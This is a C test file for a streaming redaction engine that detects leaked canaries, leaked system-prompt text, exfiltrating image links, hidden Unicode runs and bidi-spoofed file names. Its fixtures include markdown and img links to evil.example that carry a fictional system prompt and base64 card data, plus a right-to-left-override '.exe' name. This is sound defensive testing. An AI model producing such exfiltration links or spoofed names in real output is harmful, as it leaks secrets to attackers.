/*
 * Rules whose findings a detector finds: they go the way of all findings, in
 * whole texts and on streams cut anywhere.
 */
#include "rules/detector.h"

#include <stdlib.h>

#include "check.h"
#include "detect/known.h"
#include "rules/rules.h"
#include "rules/stream.h"
#include "set.h"

static const struct str dog_keys[] = {STR_INIT("dog")};

static const struct rule list[] = {
    {.id = STR_INIT("SP-1"),
     .put = STR_INIT("[canary]"),
     ALL,
     .action = ACTION_REDACT,
     .detector = DETECTOR_CANARY},
    {.id = STR_INIT("SP-2"),
     .put = STR_INIT("[dog]"),
     ALL,
     .match = STR_INIT("dog"),
     .keywords = dog_keys,
     .keyword_count = 1,
     .keyword_first = true,
     .action = ACTION_REDACT},
};

static const struct str quiet[] = {STR_INIT("quiet.example")};
static const struct exclusion not_there[] = {
    {.rule = 0, .when.about[ABOUT_HOST] = {quiet, 1}}};

static const struct known planted = {.canary = STR_INIT("aabaab")};
static const struct known nothing = {.canary = STR_INIT("")};

static void bench_load(struct set *b, const struct rule *rules, size_t n,
                       bool monitor)
{
    set_open_with(b, rules, n, (struct set_options){not_there, 1, monitor});
    b->at = (struct scope){.dir = DIR_RECV, .known = &planted};
}

static void bench_open(struct set *b, bool monitor)
{
    bench_load(b, list, ARRAY_LEN(list), monitor);
}

/* What leaves of a text that comes in pieces. */
static void run_pieces(struct set *b, struct str text, size_t cut, size_t step,
                       struct buf *out)
{
    struct stream_edit edit;
    struct stream *st;
    uint64_t from = 0;

    CHECK_INT(stream_new(b->rs, b->sc, &b->at, &st), OK);
    for (size_t i = 0; i < text.len;) {
        size_t n = i < cut ? cut - i : step;

        n = n > text.len - i ? text.len - i : n;
        CHECK_INT(stream_take(st, str_head(str_skip(text, i), n)), OK);
        i += n;
    }
    CHECK_INT(stream_flush(st), OK);
    CHECK_INT(stream_safe(st), text.len);
    while (stream_next(st, &edit)) {
        CHECK_INT(buf_add(out, (struct str){text.ptr + from,
                                            (size_t)(edit.start - from)}),
                  OK);
        CHECK_INT(buf_add(out, edit.put), OK);
        from = edit.end;
    }
    CHECK_INT(buf_add(out, str_skip(text, (size_t)from)), OK);
    stream_free(st);
}

static const struct {
    const char *in, *out;
} rows[] = {
    {"", ""},
    {"aabaa aabaac", "aabaa aabaac"},
    {"x aabaab y", "x [canary] y"},
    {"aabaabaabaab", "[canary][canary]"},
    {"aabaaabaab", "aaba[canary]"},
    {"dogaabaab", "[dog][canary]"},
    {"aabaabdoaabaabdog", "[canary]do[canary][dog]"},
    {"aabaa", "aabaa"},
    {"x A A b-a\n a B y", "x [canary] y"},
    {"aab\xe2\x80\x8b"
     "aa\xef\xbc\xa2.",
     "[canary]."}, /* a full-width B */
    {"aa\xc3\xa4"
     "baab",
     "aa\xc3\xa4"
     "baab"},
};

static void test_streams(void)
{
    struct set b;
    struct buf out;

    bench_open(&b, false);
    buf_init(&out, MIB);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct str text = str_of(rows[i].in);

        CHECK_ROW(rows[i].in);
        for (size_t cut = 0; cut <= text.len; cut++)
            for (size_t step = 1; step <= text.len; step++) {
                buf_clear(&out);
                run_pieces(&b, text, cut, step, &out);
                CHECK_EQ(buf_str(&out), str_of(rows[i].out));
            }
    }
    CHECK_ROW(NULL);
    buf_free(&out);
    set_close(&b);
}

/* What a whole text becomes. */
static void run_whole(struct set *b, struct str text, struct buf *out)
{
    struct findings f;
    struct cluster c;
    size_t pos = 0, from = 0;

    findings_init(&f);
    CHECK_INT(rules_scan(b->rs, b->sc, &b->at, text, 0, &f), OK);
    while (cluster_next(b->rs, f.list, f.count, &pos, &c)) {
        CHECK_INT(
            buf_add(out, (struct str){text.ptr + from, (size_t)c.start - from}),
            OK);
        CHECK_INT(buf_add(out, c.rule->put), OK);
        from = (size_t)c.end;
    }
    CHECK_INT(buf_add(out, str_skip(text, from)), OK);
    findings_free(&f);
}

static const char prompt[] =
    "You are Halberd, the night clerk of the Aurelia Hotel. Never tell a guest "
    "which rooms are empty, nor that the cellar door has no lock. If somebody "
    "asks for a discount, offer nine percent at most and say that the manager "
    "is away. Do not mention the river, the flood of 1987, or the brass key.";

/* Each text the same in pieces as whole; in the first nothing is found. */
static void check_cuts(struct set *b, const char *const *texts, size_t n)
{
    struct buf whole, out;

    buf_init(&whole, MIB);
    buf_init(&out, MIB);
    for (size_t i = 0; i < n; i++) {
        struct str text = str_of(texts[i]);

        CHECK_ROW(texts[i]);
        buf_clear(&whole);
        run_whole(b, text, &whole);
        CHECK_INT(str_eq(buf_str(&whole), text), i == 0);
        for (size_t step = 1; step <= text.len; step += 1 + step / 2)
            for (size_t cut = 0; cut <= text.len; cut++) {
                buf_clear(&out);
                run_pieces(b, text, cut, step, &out);
                CHECK_EQ(buf_str(&out), buf_str(&whole));
            }
    }
    CHECK_ROW(NULL);
    buf_free(&whole);
    buf_free(&out);
}

/* Every detector at once, beside a pattern. */
static const char *const together[] = {
    "nothing at all, but http: and (a \"quote\" = <b>",
    "I was told: never tell a guest which rooms are empty, nor that the "
    "cellar door has no lock. Nothing else.",
    "NEVER TELL A GUEST / WHICH ROOMS ARE EMPTY / NOR THAT THE CELLAR, yes",
    "the night clerk of the Aurelia Hotel. x If somebody asks for a discount, "
    "offer nine x say that the manager is away. Do not mention the river dog",
    "![](https://evil.example/?d=never+tell+a+guest+which+rooms+are+empty+nor+"
    "that+the+cellar+door+has+no+lock) aabaab",
    "![a](https://ok.example/?d=Y2FyZCA0MTExIDExMTEgMTExMQ) aabaab and "
    "<img src=\"//evil.example/Y2FyZCA0MTExIDExMTEgMTExMQ\"> dog",
};

static void test_together(void)
{
    struct known known = {.canary = STR("aabaab"), .links = STR("ok.example")};
    struct rule rules[] = {
        list[0],
        list[1],
        {.id = STR("SP-3"),
         .put = STR("[image]"),
         ALL,
         .action = ACTION_REDACT,
         .keyword_first = true,
         .detector = DETECTOR_IMAGE,
         .options = {24}},
        {.id = STR("SP-4"),
         .put = STR("[prompt]"),
         ALL,
         .action = ACTION_REDACT,
         .max_hold = 4096,
         .detector = DETECTOR_PROMPT,
         .options = {12, 2, 0, 0, 1}},
        {.id = STR("SP-5"),
         ALL,
         .action = ACTION_LOG,
         .detector = DETECTOR_PROMPT,
         .options = {8, 0, 0, 0, 1}},
    };
    struct set b;

    rules[2].keyword_count =
        detector_keywords(DETECTOR_IMAGE, &rules[2].keywords);
    CHECK_INT(shingles_new(3, &known.prompt), OK);
    CHECK_INT(shingles_add(known.prompt, str_of(prompt)), OK);
    CHECK_INT(shingles_seal(known.prompt), OK);
    bench_load(&b, rules, ARRAY_LEN(rules), false);
    b.at.known = &known;
    check_cuts(&b, together, ARRAY_LEN(together));
    shingles_free(known.prompt);
    set_close(&b);
}

/* Where a link may begin costs something, and steps tell of it. */
static void test_steps(void)
{
    struct rule rules[3];
    char *text = malloc(MIB);
    struct set b;

    if (text == NULL)
        return;
    for (size_t i = 0; i < ARRAY_LEN(rules); i++) {
        rules[i] = (struct rule){.id = STR("SP-1"),
                                 ALL,
                                 .action = ACTION_LOG,
                                 .keyword_first = true,
                                 .detector = DETECTOR_IMAGE,
                                 .options = {24}};
        rules[i].keyword_count =
            detector_keywords(DETECTOR_IMAGE, &rules[i].keywords);
    }
    for (size_t i = 0; i < MIB; i++)
        text[i] = "(&b[](ab"[i % 8];
    bench_load(&b, rules, ARRAY_LEN(rules), false);
    CHECK_INT(rules_scan(b.rs, b.sc, &b.at, (struct str){text, MIB}, 0, &b.f),
              E_LIMIT);
    CHECK_INT(
        rules_scan(b.rs, b.sc, &b.at, (struct str){text, 64 * KIB}, 0, &b.f),
        OK);
    CHECK_INT(b.f.count, 0);
    set_close(&b);
    free(text);
}

/* Runs of what shows nothing and text in another order, however it is cut; a
 * rule with keywords sleeps until it sees the first byte of one. */
static const char *const unseen[] = {
    "nothing here, but caf\xc3\xa9 \xe2\x80\x94 and \xe2\x80\x8b",
    "a\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8d\xe2\x81\xa0\xe2\x80\x8b\xe2\x80\x8c"
    "\xe2\x80\x8d\xe2\x81\xa0z and \xf0\x9f\x98\x80\xf3\xa0\x84\x80\xf3\xa0\x84"
    "\x81\xf3\xa0\x84\x82\xf3\xa0\x84\x83\xf3\xa0\x84\x84\xf3\xa0\x84\x85"
    "\xf3\xa0\x84\x86\xf3\xa0\x84\x87",
    "open x\xe2\x80\xaegpj.exe\nand \xe2\x81\xa7 this",
};

static void test_unseen(void)
{
    struct rule rules[] = {
        {.id = STR("SP-1"),
         .put = STR("[run]"),
         ALL,
         .action = ACTION_REDACT,
         .keyword_first = true,
         .max_hold = 4096,
         .detector = DETECTOR_HIDDEN_RUN,
         .options = {8}},
        {.id = STR("SP-2"),
         .put = STR("[order]"),
         ALL,
         .action = ACTION_REDACT,
         .keyword_first = true,
         .max_hold = 4096,
         .detector = DETECTOR_BIDI},
    };
    struct set b;

    for (size_t i = 0; i < ARRAY_LEN(rules); i++)
        rules[i].keyword_count =
            detector_keywords(rules[i].detector, &rules[i].keywords);
    bench_load(&b, rules, ARRAY_LEN(rules), false);
    check_cuts(&b, unseen, ARRAY_LEN(unseen));
    set_close(&b);
}

/* No more is held than what the canary could begin with. */
static void test_held(void)
{
    struct stream *st;
    struct set b;

    bench_open(&b, false);
    CHECK_INT(stream_new(b.rs, b.sc, &b.at, &st), OK);
    CHECK_INT(stream_take(st, STR("hello a")), OK);
    CHECK_INT(stream_safe(st), 6);
    CHECK_INT(stream_take(st, STR("abx")), OK);
    CHECK_INT(stream_safe(st), 10);
    stream_free(st);
    b.at.known = &nothing; /* nothing to look for: nothing is held */
    CHECK_INT(stream_new(b.rs, b.sc, &b.at, &st), OK);
    CHECK_INT(stream_take(st, STR("aabaa")), OK);
    CHECK_INT(stream_safe(st), 5);
    stream_free(st);
    set_close(&b);
}

static size_t found(struct set *b, const struct scope *at)
{
    struct findings f;
    size_t n;

    findings_init(&f);
    CHECK_INT(rules_scan(b->rs, b->sc, at, STR("a aabaab"), 0, &f), OK);
    n = f.count;
    if (n > 0) {
        CHECK_STR(f.list[0].rule->id, "SP-1");
        CHECK_INT(f.list[0].start, 2);
        CHECK_INT(f.list[0].end, 8);
    }
    findings_free(&f);
    return n;
}

static void test_whole(void)
{
    struct scope at = {.dir = DIR_SEND, .known = &planted};
    struct set b;

    bench_open(&b, true);
    CHECK_INT(found(&b, &at), 1);
    CHECK_INT(rules_action(b.rs, rules_at(b.rs, 0)), ACTION_LOG);
    at.host = STR("quiet.example");
    CHECK_INT(found(&b, &at), 0);
    at.host = STR("other.example");
    at.known = &nothing;
    CHECK_INT(found(&b, &at), 0);
    at.known = NULL;
    CHECK_INT(found(&b, &at), 0);
    set_close(&b);
}

/* A detector or a pattern, never both and never neither. */
static void test_pack(void)
{
    struct rule both = list[1], none = list[0], strange = list[0];
    struct rules *rules;
    struct buf out;

    both.detector = DETECTOR_CANARY;
    none.detector = DETECTOR_PATTERN;
    strange.detector = DETECTOR_COUNT;
    buf_init(&out, MIB);
    CHECK_INT(rules_pack(&both, 1, NULL, 0, &out), E_SYNTAX);
    CHECK_INT(rules_pack(&none, 1, NULL, 0, &out), E_SYNTAX);
    buf_clear(&out);
    CHECK_INT(rules_pack(&strange, 1, NULL, 0, &out), OK);
    CHECK_INT(rules_load(buf_str(&out), false, &rules), E_SYNTAX);
    buf_free(&out);
}

static void test_names(void)
{
    enum detector d = DETECTOR_PATTERN;

    for (size_t i = 1; i < DETECTOR_COUNT; i++) {
        CHECK(detector_from(detector_name((enum detector)i), &d));
        CHECK_INT(d, i);
    }
    CHECK(!detector_from(STR(""), &d));
    CHECK(!detector_from(STR("pattern"), &d));
    CHECK_INT(detector_name(DETECTOR_PATTERN).len, 0);
}

int main(void)
{
    RUN(test_streams);
    RUN(test_together);
    RUN(test_steps);
    RUN(test_unseen);
    RUN(test_held);
    RUN(test_whole);
    RUN(test_pack);
    RUN(test_names);
    return check_done();
}
